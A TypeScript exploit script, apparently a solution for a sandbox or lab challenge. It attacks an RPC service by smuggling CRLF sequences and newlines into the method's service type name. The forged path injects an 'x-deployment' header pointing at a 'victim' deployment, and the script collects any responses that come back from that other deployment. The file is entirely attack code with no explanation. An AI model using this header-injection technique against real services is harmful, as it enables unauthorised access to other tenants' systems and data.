import { transport } from "playground";
import { Target } from "./gen/target_pb";
import { victim } from "./victim";

/** A path that would be more than one line for whoever writes it down. */
export async function attack() {
  const own = Target.method.attack;
  const found: string[] = [];
  for (const typeName of [
    `x HTTP/1.1\r\nx-deployment: ${victim}\r\n\r\n`,
    `attack.v1.Target/Attack\nx-deployment\n${victim}\nx`,
  ]) {
    const crafted = { ...own, parent: { ...own.parent, typeName } } as unknown as typeof own;
    await transport.unary(crafted, undefined, 2_000, undefined, { text: "victim?" }).then(
      ({ message }) => message.text !== "own victim?" && found.push(message.text),
      () => {},
    );
  }
  console.log(`found: ${found.join()}`);
}
